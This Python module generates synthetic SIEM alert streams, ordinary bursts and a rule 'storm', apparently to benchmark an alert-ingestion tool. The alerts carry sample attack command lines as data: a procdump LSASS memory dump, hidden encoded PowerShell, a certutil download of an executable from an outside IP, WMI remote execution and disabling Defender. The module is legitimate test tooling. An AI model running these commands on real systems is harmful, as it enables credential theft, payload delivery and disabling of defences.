"""Alert streams in Garrison's own alert JSON (`tools.models.Alert`), generated from a seed.

`soc_stream`: what a SOC's SIEM forwards on an ordinary day. Alerts come in bursts: one host (and
its usual user) trips one to three related rules over a few minutes, as an intrusion or a noisy
admin tool does; bursts are spread over the alert-time span, on ~200 hosts with a few noisy ones,
so related alerts group into incidents and no rule touches enough hosts at once to be a storm.
`storm_stream`: one rule firing on hundreds of hosts within minutes (a bad signature push).
Every alert uid carries `prefix`, so each run sends alerts never seen before (a resent uid is
deduplicated, which would measure dedup rather than ingestion).
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from datetime import datetime, timedelta

Alert = dict[str, object]


@dataclass(frozen=True)
class Rule:
    uid: str
    name: str
    severity: str
    technique: str
    process: str
    cmd_line: str


RULES = (
    Rule("r-lsass", "LSASS memory access", "high", "T1003.001", "procdump.exe",
         "procdump.exe -ma lsass.exe C:\\Windows\\Temp\\l.dmp"),
    Rule("r-encoded-ps", "Encoded PowerShell command", "medium", "T1059.001", "powershell.exe",
         "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    Rule("r-schtask", "Scheduled task created", "low", "T1053.005", "schtasks.exe",
         "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute"),
    Rule("r-psexec", "PsExec service installed", "high", "T1569.002", "services.exe",
         "C:\\Windows\\PSEXESVC.exe"),
    Rule("r-rundll", "Rundll32 without arguments", "medium", "T1218.011", "rundll32.exe",
         "rundll32.exe"),
    Rule("r-certutil", "Certutil download", "medium", "T1105", "certutil.exe",
         "certutil -urlcache -split -f http://198.51.100.7/a.txt a.exe"),
    Rule("r-wmi-exec", "WMI remote execution", "high", "T1047", "wmiprvse.exe",
         "wmic /node:10.0.4.12 process call create cmd.exe"),
    Rule("r-defender-off", "Defender real-time protection disabled", "critical", "T1562.001",
         "powershell.exe", "Set-MpPreference -DisableRealtimeMonitoring $true"),
)  # fmt: skip
# How often each rule starts a burst: the noisy low-severity ones most.
RULE_WEIGHTS = (3, 5, 9, 2, 4, 4, 2, 1)
HOSTS = 200
ALERTS_PER_BURST = (1, 12)
BURST_SPAN_S = 600


def hosts(count: int) -> list[str]:
    return [f"WS{i:04d}.corp.example" for i in range(count)]


def _alert(uid: str, at: datetime, rule: Rule, host: str, user: str | None) -> Alert:
    return {
        "uid": uid,
        "time": at.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "title": f"{rule.name} on {host.split('.')[0]}",
        "severity": rule.severity,
        "product": "bench-edr",
        "rule": {"uid": rule.uid, "name": rule.name},
        "attacks": [{"technique": rule.technique}],
        "entities": {
            "host": host,
            "user": user,
            "process": {"name": rule.process, "cmd_line": rule.cmd_line},
        },
    }


def soc_stream(count: int, start: datetime, prefix: str, seed: int = 7) -> list[Alert]:
    """`count` alerts in time order from `start`, in bursts (see the module docstring)."""
    rng = random.Random(seed)
    names = hosts(HOSTS)
    # A few hosts are much noisier than the rest (admins' jump boxes, build servers).
    host_weights = [20 if i < 10 else 1 for i in range(HOSTS)]
    user_of = {h: f"CORP\\user{i % 150:03d}" for i, h in enumerate(names)}
    burst_count = max(1, count // ((ALERTS_PER_BURST[0] + ALERTS_PER_BURST[1]) // 2))
    span_s = burst_count * 60  # about one burst a minute
    alerts: list[Alert] = []
    while len(alerts) < count:
        host = rng.choices(names, host_weights)[0]
        rules = rng.choices(RULES, RULE_WEIGHTS, k=rng.randint(1, 3))
        begin = start + timedelta(seconds=rng.uniform(0, span_s))
        for _ in range(min(rng.randint(*ALERTS_PER_BURST), count - len(alerts))):
            at = begin + timedelta(seconds=rng.uniform(0, BURST_SPAN_S))
            user = user_of[host] if rng.random() < 0.8 else None
            alerts.append(_alert("", at, rng.choice(rules), host, user))
    alerts.sort(key=lambda a: str(a["time"]))
    for i, alert in enumerate(alerts):
        alert["uid"] = f"{prefix}-{i:06d}"
    return alerts


def storm_stream(
    count: int, start: datetime, prefix: str, host_count: int = 500, window_s: int = 300
) -> list[Alert]:
    """`count` alerts of one rule over `host_count` hosts within `window_s` of alert time."""
    rng = random.Random(11)
    rule = RULES[4]
    step = window_s / count
    picks = [rng.randrange(host_count) for _ in range(count)]
    return [
        _alert(
            f"{prefix}-{i:06d}",
            start + timedelta(seconds=i * step),
            rule,
            f"SRV{h:04d}.corp.example",
            f"CORP\\svc{h:03d}",  # each host's own account: no person links two hosts
        )
        for i, h in enumerate(picks)
    ]


def bodies(alerts: list[Alert], batch: int) -> list[bytes]:
    """Request bodies, encoded before the clock starts: one alert each (`batch` 1) or arrays."""
    if batch == 1:
        return [json.dumps(a, separators=(",", ":")).encode() for a in alerts]
    return [
        json.dumps(alerts[i : i + batch], separators=(",", ":")).encode()
        for i in range(0, len(alerts), batch)
    ]
